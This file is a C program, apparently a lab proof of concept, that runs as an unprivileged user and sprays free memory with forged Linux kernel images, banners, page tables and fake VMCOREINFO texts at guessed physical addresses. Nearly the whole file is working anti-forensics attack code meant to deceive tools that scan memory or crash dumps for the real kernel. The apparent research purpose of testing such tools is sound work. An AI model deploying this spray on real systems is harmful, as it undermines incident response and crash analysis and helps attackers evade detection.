// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * Sprays forgeries over as much memory as an ordinary user gets, and knows no more than
 * an ordinary user: the kernel's banner, and where the symbols of its build are linked.
 *
 *	spray decoys	parts of kernel images, every huge page the same: those of 21 pages side
 *			by side add up to an image with its banner, phys_base and page tables
 *	spray images	the same, with tables that bear nearly every one of them out
 *	spray claims	32 VMCOREINFO texts a huge page, each with page tables of its own
 *	spray text	one text a huge page
 *
 * All of them have to say at which physical address they lie, which can only be guessed.
 * A guess that is good for one page in thirty is good enough.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define HUGE (2UL << 20)
#define PAGE 4096UL
#define NOBODY 65534
#define KERNEL_MAP 0xffffffff80000000UL	/* __START_KERNEL_map */
#define WINDOW (1UL << 30)		/* the addresses that a kernel image can have */
#define TABLE 0x63UL			/* present, writable, accessed, dirty */
#define LARGE 0xe3UL			/* the same, and a 2 MiB page */
#define CLAIMS 32
#define TEXT_SIZE 3000			/* about that of a true text */

/*
 * After boot free memory is one long run, given out from its low end upwards: the huge page
 * touched as number i lies near i * HUGE. What the kernel and the firmware have taken below
 * it shifts it by one of these.
 */
#define FIRST_SHIFT (16UL << 20)
#define SHIFTS 32

static uint64_t guess(long number, long attempt)
{
	return number * HUGE + FIRST_SHIFT + attempt % SHIFTS * HUGE;
}

/* Where this build's kernel is linked to have a symbol. */
static uint64_t linked(const char *wanted)
{
	char name[64];
	uint64_t value, found = 0;
	FILE *file = fopen("/linked", "r");

	while (!found && fscanf(file, "%63s %" SCNx64, name, &value) == 2)
		if (!strcmp(name, wanted))
			found = value;
	fclose(file);
	return found;
}

/* A line "NAME   NUMBER kB" of a file in /proc, in bytes. */
static uint64_t amount(const char *path, const char *format)
{
	char line[256];
	uint64_t kib = 0;
	FILE *file = fopen(path, "r");

	while (!kib && fgets(line, sizeof(line), file))
		sscanf(line, format, &kib);
	fclose(file);
	return kib << 10;
}

/*
 * What an image that starts at a multiple of 2 MiB, with a phys_base of 0, has in any huge
 * page: its banner, the variable and its top-level table, each where it belongs. The table
 * is all levels in one and maps just its image, if it lies where guessed. A shared one goes
 * on to tables at the place guessed, which map every address to itself: whichever huge page
 * lies there has them.
 */
static void lay_decoy(char *huge, long number, const char *banner, int shared)
{
	static uint64_t linux_banner, phys_base, top, text;
	uint64_t place = guess(number, number), start, at;
	uint64_t *table, *upper, *lower;

	if (!text) {
		text = linked("_text");
		top = linked("init_top_pgt") - text;
		linux_banner = linked("linux_banner") - text;
		phys_base = linked("phys_base") - text;
	}
	at = top % HUGE;
	start = place - (top - at);
	table = (uint64_t *)(huge + at);
	upper = (uint64_t *)(huge + at + 2 * PAGE);
	lower = (uint64_t *)(huge + at + 3 * PAGE);

	strcpy(huge + linux_banner % HUGE, banner);
	memset(huge + phys_base % HUGE, 0, 8);
	if (shared) {
		table[511] = (place + at + 2 * PAGE) | TABLE;
		upper[510] = (place + at + 3 * PAGE) | TABLE;
		for (uint64_t paddr = text - KERNEL_MAP; paddr < WINDOW; paddr += HUGE)
			lower[paddr / HUGE] = paddr | LARGE;
	} else if (start < WINDOW - 2 * HUGE) {
		table[511] = table[510] = (place + at) | TABLE;
		table[start / HUGE] = start | LARGE;
	}
}

/* A text as long as a true one, and as hard to compress. */
static void write_text(char *page, uint64_t place, int claim, uint64_t vaddr, uint64_t table)
{
	uint64_t noise = place + claim + 1, offset = claim * HUGE;
	int length = sprintf(page,
		"OSRELEASE=6.6.6-forged\n"
		"BUILD-ID=%040" PRIx64 "\n"
		"PAGESIZE=4096\n"
		"SYMBOL(init_uts_ns)=%" PRIx64 "\n"
		"OFFSET(uts_namespace.name)=0\n"
		"SYMBOL(swapper_pg_dir)=%" PRIx64 "\n"
		"SYMBOL(_stext)=%" PRIx64 "\n"
		"NUMBER(phys_base)=%" PRId64 "\n"
		"NUMBER(pgtable_l5_enabled)=0\n"
		"KERNELOFFSET=%" PRIx64 "\n",
		noise, vaddr + HUGE / 2, table, vaddr,
		(int64_t)(place - (vaddr - KERNEL_MAP)), offset);

	for (int i = 0; length < TEXT_SIZE; i++) {
		noise = noise * 6364136223846793005UL + 1442695040888963407UL;
		length += sprintf(page + length, "SYMBOL(forged_%d)=ffffffff%08" PRIx64 "\n", i,
				  noise >> 32);
	}
}

/* Texts, a table for each and a banner; each text a kernel of its own in the same 2 MiB. */
static void lay_texts(char *huge, long number, int count)
{
	uint64_t place = guess(number, number), text = linked("_text");

	for (int i = 0; i < count; i++) {
		uint64_t vaddr = text + i * HUGE, at = (count + i) * PAGE;
		uint64_t *table = (uint64_t *)(huge + at);

		write_text(huge + i * PAGE, place, i, vaddr, vaddr + at);
		table[511] = table[510] = (place + at) | TABLE;
		table[(vaddr - KERNEL_MAP) / HUGE] = place | LARGE;
	}
	strcpy(huge + 2 * count * PAGE, "Linux version 6.6.6-forged (a@b) (gcc) #1 SMP FORGED\n");
}

int main(int argc, char **argv)
{
	char banner[512] = "", *memory;
	const char *kind = argc > 1 ? argv[1] : "";
	long count;
	int file;

	if (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY))
		return 1;
	count = amount("/proc/meminfo", "MemFree: %" SCNu64) / 10 * 6 / HUGE;
	file = open("/proc/version", O_RDONLY);
	if (read(file, banner, sizeof(banner) - 1) <= 0)
		return 1;

	memory = mmap(NULL, (count + 1) * HUGE, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (memory == MAP_FAILED)
		return 1;
	memory = (char *)(((uintptr_t)memory + HUGE - 1) & ~(HUGE - 1));
	madvise(memory, count * HUGE, MADV_HUGEPAGE);
	for (long i = 0; i < count; i++) {
		char *huge = memory + i * HUGE;

		if (!strcmp(kind, "decoys"))
			lay_decoy(huge, i, banner, 0);
		else if (!strcmp(kind, "images"))
			lay_decoy(huge, i, banner, 1);
		else
			lay_texts(huge, i, strcmp(kind, "claims") ? 1 : CLAIMS);
	}

	printf("=== LAB SPRAY %s %" PRIu64 "\n", kind,
	       amount("/proc/self/smaps_rollup", "AnonHugePages: %" SCNu64) / HUGE);
	fflush(stdout);
	close(open("/tmp/sprayed", O_CREAT | O_WRONLY, 0600));
	for (;;)
		pause();
}
